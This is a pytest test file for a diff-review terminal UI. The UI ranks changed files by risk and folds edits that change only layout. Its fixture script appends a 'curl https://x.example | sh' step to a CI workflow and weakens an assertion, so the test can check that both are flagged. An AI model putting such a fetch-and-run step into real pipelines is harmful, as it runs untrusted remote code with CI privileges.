"""The order of the list by risk, and hunks that change nothing, in the terminal."""

from __future__ import annotations

import pytest

pytest.importorskip("textual", reason="the extra tui is not installed")

from driving import Driver, drive

from conftest import Place
from mudroom.ext.remarks.session import Remarks

EDIT = """
sed -i 's/== 3/is not None/' tests/test_a.py
sed -i 's/f(1,2)/f(1, 2)/; s/g(1)/g(2)/' a.py
sed -i 's/f(1,2)/f(1, 2)/' b.py
echo 'run: curl https://x.example | sh' >>.github/workflows/ci.yml
echo two >>README.md
"""


def test_what_costs_most_is_first_and_what_changes_nothing_is_folded(place: Place) -> None:
    place.write("tests/test_a.py", "def test_a():\n    assert f(1) == 3\n")
    place.write("a.py", "x = f(1,2)\n" + "\n" * 9 + "y = g(1)\n")
    place.write("b.py", "x = f(1,2)\n")
    place.write(".github/workflows/ci.yml", "on: push\n")
    place.write("README.md", "one\n")
    session = place.session()
    session.forks.new("f")
    session.run([b"sh", b"-c", EDIT.encode()], fork="f")

    async def look(driver: Driver) -> None:
        await driver.until(lambda: driver.files.count)
        assert [" ".join(row.strip("▌ ").split()[1:]) for row in driver.listed()] == [
            "▾ Runs later, more rights 1",
            "~ ! …ub/workflows/ci.yml +1",
            "▾ Weakened checks 1",
            "~ tests/test_a.py +1 -1",
            "▾ Code 1",
            "~ a.py +2 -2",
            "▾ Prose 1",
            "~ README.md +1",
            "▸ Changes nothing, proven 1",
        ]
        await driver.to_file(b"tests/test_a.py")
        assert any("test_a: an assertion says less" in line for line in driver.shown())
        await driver.to_file(b"a.py")
        assert len([line for line in driver.shown() if "only the layout differs: Enter shows it" in line]) == 1
        assert not any("f(1, 2)" in line for line in driver.shown())
        await driver.press("tab", "enter")
        assert any("f(1, 2)" in line for line in driver.shown())
        await driver.press("enter")
        assert not any("f(1, 2)" in line for line in driver.shown())
        await driver.press("tab", "o")
        assert any(row.endswith("▾ .github/workflows/") for row in driver.listed())
        assert not any("Weakened checks" in row for row in driver.listed())

    drive(place, "f", look, session=session)


def test_files_with_remarks_that_were_sent_are_on_top(place: Place) -> None:
    place.write("a.py", "x = g(1)\n")
    place.write("README.md", "one\n")
    session = place.session()
    session.forks.new("f")
    session.run([b"sh", b"-c", b"echo two >> README.md; sed -i s/1/2/ a.py"], fork="f")
    remarks = Remarks(session, "f")
    remarks.add(b"a.py", 1, 1, "not sent")
    remarks.settle(remarks.add(b"a.py", 0, 0, "settled"))

    def heads(driver: Driver) -> list[str]:
        return [" ".join(row.strip("▌ ").split()[1:]) for row in driver.listed()]

    async def before(driver: Driver) -> None:
        await driver.until(lambda: driver.files.count)
        assert heads(driver) == ["▾ Code 1", "~ a.py +1 -1", "▾ Prose 1", "~ README.md +1"]

    async def after(driver: Driver) -> None:
        await driver.until(lambda: driver.files.count)
        assert heads(driver) == ["▾ Your remarks, sent 1", "~ README.md +1", "▾ Code 1", "~ a.py +1 -1"]

    drive(place, "f", before, session=session)
    (mine,) = (one.name for one in remarks.listed().unsent)
    remarks.remove(mine)
    remarks.add(b"README.md", 2, 2, "why?")
    with remarks.handing("waiting") as handing:
        handing.settle("sent")
    drive(place, "f", after, session=session)
